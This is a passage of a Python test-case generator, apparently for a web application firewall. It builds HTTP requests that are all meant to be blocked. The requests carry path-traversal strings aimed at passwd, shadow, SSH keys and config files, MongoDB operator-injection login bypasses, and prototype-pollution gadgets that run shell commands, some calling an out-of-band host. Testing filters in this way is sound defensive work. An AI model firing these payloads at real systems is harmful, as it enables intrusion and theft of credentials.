    ("....//....//....//etc/passwd", "dotdotpwn ..../ strip bypass"),
    ("..///..///..///etc///passwd", "dotdotpwn ..///"),
    ("../%5c../%5c../%5cetc/passwd", "dotdotpwn ../\\ mixed"),
    ("%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd", "dotdotpwn IIS %u"),
    ("..%u2215..%u2215..%u2215etc%u2215issue", "dotdotpwn %u2215"),
    ("%%32%%65%%32%%65/%%32%%65%%32%%65/%%32%%65%%32%%65/etc/passwd", "dotdotpwn %%32%%65"),
    ("../../../etc/passwd%00.png", "dotdotpwn null suffix"),
    ("../../../../etc/passwd%00index.html", "dotdotpwn %00index.html"),
    ("../../../../etc/issue;index.html", "dotdotpwn ;index.html"),
    ("///../../../etc/passwd", "dotdotpwn /// prefix"),
    ("%5c%5c%5c..%5c..%5c..%5cboot.ini", "dotdotpwn \\\\\\ prefix"),
    ("./../../../../etc/shadow", "dotdotpwn ./ prefix"),
    ("..%2f..%2f..%2f..%2fproc%2fself%2fenviron", "proc environ"),
    ("php://filter/convert.base64-encode/resource=../../config.php", "php filter traversal"),
    ("/var/www/html/../../../etc/passwd", "absolute then up"),
    ("..%255c..%255c..%255cwindows%255cwin.ini", "double-encoded backslash"),
    ("%2e%2e%5c%2e%2e%5c%2e%2e%5cinetpub%5cwwwroot%5cweb.config", "encoded dots + backslash"),
    ("..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd", "dotdotpwn 3-byte overlong"),
    ("..%c1%9c..%c1%9c..%c1%9cboot.ini", "dotdotpwn %c1%9c"),
    ("..//..//..//..//etc//passwd", "dotdotpwn ..//"),
    ("/..%5c..%5c..%5cetc%5cpasswd", "dotdotpwn /..\\"),
    (".%5c..%5c..%5c..%5cweb.config", "dotdotpwn .\\..\\"),
    ("../../../../../../../../../../etc/hosts", "deep traversal"),
    ("../../../.env", "dotenv"),
    ("../../../../root/.ssh/id_rsa", "ssh key"),
    ("../../../../var/log/apache2/access.log", "log poisoning target"),
    ("..%2F..%2F..%2FWEB-INF%2Fweb.xml", "WEB-INF"),
    ("..%5c..%5c..%5cWindows%5cwin.ini", "win.ini"),
    ("%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "mixed encoded dots"),
    (".%2e/.%2e/.%2e/etc/passwd", "dotdotpwn .%2e"),
    ("%2e./%2e./%2e./etc/passwd", "dotdotpwn %2e."),
    ("..%252f..%252f..%252fetc%252fshadow", "dotdotpwn %252f"),
    ("..%c0%5c..%c0%5c..%c0%5cboot.ini", "dotdotpwn %c0%5c"),
    ("%25c0%25ae%25c0%25ae/%25c0%25ae%25c0%25ae/etc/passwd", "dotdotpwn %25c0%25ae"),
    ("..\\..\\..\\..\\windows\\system32\\config\\sam", "raw backslashes"),
    ("..%2f..%2f..%2f..%2fusr%2flocal%2fapp%2fconfig%2fdatabase.yml", "app config"),
    ("../../../../../../etc/passwd", "plain"),
    ("..%2f..%2f..%2f..%2f..%2fetc%2fkubernetes%2fadmin.conf", "kube admin.conf"),
]


def trav_cases(C):
    from urllib.parse import unquote
    for i, (p, src) in enumerate(TRAV):
        n = "traversal: " + src
        k = i % 9
        if k == 0:
            C.add("traversal", "block", "GET", "/api/v1/files/download?name=" + p, {"Accept": "application/octet-stream"}, "", "query", note=n)
        elif k == 1:
            C.add("traversal", "block", "GET", "/static/" + p, {"Accept": "*/*"}, "", "path", note=n)
        elif k == 2:
            C.json("traversal", "block", "POST", "/api/v1/reports/render", {"template": unquote(p), "format": "pdf"}, note=n + " (decoded in JSON)")
        elif k == 3:
            C.add("traversal", "block", "GET", "/api/v1/i18n?locale=en&file=" + p, {"Accept": "application/json"}, "", "query", note=n)
        elif k == 4:
            C.multipart("traversal", "block", "POST", "/api/v1/uploads", [("folder", "avatars"), ("file", "PNGDATA", unquote(p), "image/png")], note=n + " (multipart filename)")
        elif k == 5:
            C.add("traversal", "block", "GET", "/api/v1/themes/preview", {"Accept": "text/html", "Cookie": "theme=" + p + "; sid=f00dbabe"}, "", "cookie", note=n)
        elif k == 6:
            C.form("traversal", "block", "POST", "/admin/logs/view", [("logfile", unquote(p)), ("lines", "200")], note=n)
        elif k == 7:
            C.json("traversal", "block", "POST", "/api/v1/workspace/files/read", None,
                   raw=jdump({"path": unquote(p), "encoding": "utf-8"}).replace("/", "\\u002f"), note=n + " (JSON \\u002f escapes)")
        else:
            C.add("traversal", "block", "GET", "/api/v1/avatar", {"Accept": "image/*", "X-Original-URL": "/avatar/" + p}, "", "header", note=n)


# ---------------------------------------------------------------------------------------
# NoSQL (MongoDB operator injection / $where JS)
# ---------------------------------------------------------------------------------------
def nosql_cases(C):
    J = lambda method, path, obj, src: C.json("nosql", "block", method, path, obj, note="nosql: " + src)
    J("POST", "/api/v1/auth/login", {"username": "admin", "password": {"$ne": None}}, "PATT $ne auth bypass")
    J("POST", "/api/v1/auth/login", {"username": {"$gt": ""}, "password": {"$gt": ""}}, "PATT $gt")
    J("POST", "/api/v1/auth/login", {"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$gt": ""}}, "PATT $in")
    J("POST", "/api/v1/auth/login", {"email": {"$regex": "^admin@", "$options": "i"}, "password": {"$ne": ""}}, "PATT $regex")
    J("POST", "/api/v1/users/lookup", {"username": "admin", "$where": "sleep(5000) || true"}, "PATT $where sleep")
    J("POST", "/api/v1/users/lookup", {"$where": "this.password.match(/^a.*/)"}, "PATT $where regex extraction")
    J("POST", "/api/v1/users/lookup", {"$where": "function(){ return this.role == 'admin' }"}, "NoSQLMap $where function")
    J("POST", "/api/v1/products/query", {"filter": {"$expr": {"$function": {"body": "function(){ sleep(5000); return true; }", "args": [], "lang": "js"}}}}, "PATT $function")
    J("POST", "/api/v1/products/query", {"filter": {"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}}, "PATT $expr")
    J("POST", "/api/v1/password/reset", {"token": {"$ne": "x"}, "new_password": "Winter2024!"}, "reset token bypass")
    J("POST", "/api/v1/password/reset", {"email": "victim@example.org", "token": {"$regex": "^9"}}, "token brute $regex")
    J("POST", "/api/v1/auth/login", {"username": "admin", "password": {"$exists": True}}, "$exists")
    J("POST", "/api/v1/orders/search", {"customer_id": {"$nin": []}, "status": "paid"}, "$nin empty")
    J("POST", "/api/v1/auth/login", {"$or": [{"username": "admin"}, {"a": "a"}], "password": {"$ne": 1}}, "$or")
    J("POST", "/api/v1/session/validate", {"sid": {"$type": 2}}, "$type")
    C.json("nosql", "block", "POST", "/api/v1/auth/login", None, raw='{"username": "admin", "password": {"\\u0024ne": null}}', note="nosql: $ne with \\u0024 escape")
    # query / form bracket syntax (qs / PHP)
    C.add("nosql", "block", "GET", "/api/v1/users?username[$ne]=guest&password[$ne]=x", {"Accept": "application/json"}, "", "query", note="nosql: PATT bracket $ne")
    C.add("nosql", "block", "GET", "/api/v1/users?username[$regex]=.*&limit=50", {"Accept": "application/json"}, "", "query", note="nosql: brief example user[$regex]")
    C.add("nosql", "block", "GET", "/api/v1/accounts?email%5B%24gt%5D=&role=admin", {"Accept": "application/json"}, "", "query", note="nosql: percent-encoded [$gt]")
    C.form("nosql", "block", "POST", "/login", [("user[$ne]", "x"), ("pass[$ne]", "x")], note="nosql: PATT form $ne")
    C.form("nosql", "block", "POST", "/login", [("username", "admin"), ("password[$regex]", "^a.*")], note="nosql: form $regex")
    C.form("nosql", "block", "POST", "/login", [("login[$gt]", ""), ("password[$gt]", "")], note="nosql: form $gt")
    C.add("nosql", "block", "GET", "/api/v1/products?price[$where]=sleep(5000)", {"Accept": "application/json"}, "", "query", note="nosql: bracket $where")
    # JS injection inside a $where string (PATT)
    J("POST", "/api/v1/users/search", {"name": "admin' || '1'=='1"}, "PATT JS $where string break")
    J("POST", "/api/v1/users/search", {"name": "';sleep(5000);var x='"}, "PATT JS $where sleep")
    J("POST", "/api/v1/users/search", {"name": "' && this.password.match(/.*/)//"}, "PATT JS $where match")
    C.add("nosql", "block", "GET", "/api/v1/me", {"Accept": "application/json", "Cookie": "session=" + q('j:{"$ne":null}')}, "", "cookie", note="nosql: express j: JSON cookie")
    J("PATCH", "/api/v1/users/me", {"email": "me@example.org", "$set": {"role": "admin"}}, "update operator injection $set")
    C.multipart("nosql", "block", "POST", "/api/v1/login", [("username", "admin"), ("password[$ne]", "1")], note="nosql: multipart bracket $ne")
    J("POST", "/api/v1/inventory/aggregate", {"match": {"sku": "A-1"}, "stages": [{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "leak"}}]}, "aggregation $lookup into users")


# ---------------------------------------------------------------------------------------
# Prototype pollution (server-side gadgets from PortSwigger research)
# ---------------------------------------------------------------------------------------
def proto_cases(C):
    J = lambda method, path, obj, src: C.json("proto", "block", method, path, obj, note="proto: " + src)
    J("PATCH", "/api/v1/users/me", {"name": "Kim", "__proto__": {"isAdmin": True}}, "classic __proto__")
    J("PATCH", "/api/v1/users/me", {"name": "Kim", "constructor": {"prototype": {"isAdmin": True}}}, "constructor.prototype")
    J("POST", "/api/v1/preferences", {"__proto__": {"json spaces": 10}}, "PortSwigger json spaces")
    J("POST", "/api/v1/preferences", {"__proto__": {"status": 510}}, "PortSwigger status code override")
    J("POST", "/api/v1/preferences", {"__proto__": {"exposedHeaders": ["X-Polluted"]}}, "PortSwigger cors exposedHeaders")
    J("POST", "/api/v1/preferences", {"__proto__": {"head": True}}, "PortSwigger head")
    J("POST", "/api/v1/preferences", {"__proto__": {"content-type": "application/json; charset=utf-7"}}, "PortSwigger charset")
    J("POST", "/api/v1/settings", {"theme": "dark", "__proto__": {"parameterLimit": 1}}, "qs parameterLimit")
    J("POST", "/api/v1/settings", {"__proto__": {"ignoreQueryPrefix": True}}, "qs ignoreQueryPrefix")
    J("POST", "/api/v1/settings", {"__proto__": {"allowDots": True}}, "qs allowDots")
    J("POST", "/api/v1/jobs", {"__proto__": {"shell": "node", "NODE_OPTIONS": "--inspect=poll.oast.example"}}, "child_process NODE_OPTIONS")
    J("POST", "/api/v1/jobs", {"__proto__": {"argv0": "node", "shell": "node", "NODE_OPTIONS": "--require /proc/self/cmdline"}}, "argv0 shell gadget")
    J("POST", "/api/v1/jobs", {"__proto__": {"execArgv": ["--eval=require('child_process').execSync('curl poll.oast.example')"]}}, "execArgv fork gadget")
    J("POST", "/api/v1/render", {"__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');s"}}, "EJS outputFunctionName")
    J("POST", "/api/v1/render", {"__proto__": {"client": 1, "escapeFunction": "JSON.stringify; process.mainModule.require('child_process').exec('id')"}}, "EJS escapeFunction")
    J("POST", "/api/v1/render", {"__proto__": {"block": {"type": "Text", "line": "process.mainModule.require('child_process').execSync('id')"}}}, "pug block gadget")
    C.json("proto", "block", "POST", "/api/v1/profile", None, raw='{"nick": "kim", "__pro\\u0074o__": {"admin": true}}', note="proto: \\u escaped key")
    J("PUT", "/api/v1/workspaces/42/settings", {"settings": {"theme": "dark", "__proto__": {"polluted": "yes"}}}, "nested __proto__")
    J("POST", "/api/v1/cart/items", {"items": [{"sku": "A-1", "qty": 1}, {"__proto__": {"price": 0}}]}, "__proto__ in array element")
    J("POST", "/api/v1/config/merge", {"a": {"constructor": {"prototype": {"allowedHosts": ["evil.example"]}}}}, "deep constructor.prototype")
    C.add("proto", "block", "GET", "/api/v1/search?q=shoes&__proto__[isAdmin]=true", {"Accept": "application/json"}, "", "query", note="proto: query bracket")
    C.add("proto", "block", "GET", "/api/v1/search?constructor[prototype][isAdmin]=true", {"Accept": "application/json"}, "", "query", note="proto: query constructor[prototype]")
    C.add("proto", "block", "GET", "/api/v1/search?q=x&%5F%5Fproto%5F%5F.role=admin", {"Accept": "application/json"}, "", "query", note="proto: encoded dot notation")
    C.form("proto", "block", "POST", "/account/update", [("nickname", "kim"), ("__proto__[role]", "admin")], note="proto: form bracket")
    C.add("proto", "block", "GET", "/api/v1/me", {"Accept": "application/json", "Cookie": "prefs=" + q('j:{"__proto__":{"admin":true}}')}, "", "cookie", note="proto: express j: cookie")


def build(C):
    sqli_cases(C)
    xss_cases(C)
    cmdi_cases(C)
    trav_cases(C)
    nosql_cases(C)
    proto_cases(C)
